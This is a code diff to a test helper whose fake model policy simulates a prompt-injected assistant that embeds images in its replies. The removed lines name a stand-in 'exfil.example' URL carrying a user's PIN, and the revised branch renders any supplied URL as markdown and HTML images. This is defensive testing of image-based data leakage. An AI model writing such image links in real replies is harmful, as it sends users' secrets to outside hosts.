@@ -32,7 +32,6 @@ CHROMIUM_ARGS = [
 ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts"
 ASK_LOCATION = "I can't tell where you are yet: which city are you in?"
 NAP_SECONDS = 4.0
-EXFIL_URL = "http://exfil.example/?pin=4321"  # where a hostile reply sends the user's PIN
 
 
 def _text(message: BaseMessage) -> str:
@@ -40,8 +39,8 @@ def _text(message: BaseMessage) -> str:
 
 
 def policy(messages: list[BaseMessage], kwargs: dict[str, Any]) -> str | AIMessage:
-    """Weather → a native weather call; "nap" → a slow tool; "picture" → a reply with
-    remote images (as an injected model writes them); a tool result → a sentence."""
+    """Weather → a native weather call; "nap" → a slow tool; "picture URL" → a reply
+    showing URL as images (as an injected model writes them); a tool result → a sentence."""
     last = messages[-1]
     if isinstance(last, HumanMessage):
         asked = _text(last).lower()
@@ -50,7 +49,8 @@ def policy(messages: list[BaseMessage], kwargs: dict[str, Any]) -> str | AIMessa
         if "nap" in asked:
             return tool_call("nap", {"seconds": NAP_SECONDS})
         if "picture" in asked:
-            return f'Here it is: ![pin]({EXFIL_URL}) and <img src="{EXFIL_URL}&tag=1">'
+            url = _text(last).split()[-1]
+            return f'Here it is: ![pin]({url}) and <img src="{url}&tag=1">'
         return f"Hello! You said: {_text(last)}. Nice to hear from you today."
     if isinstance(last, ToolMessage):
         result = _text(last)
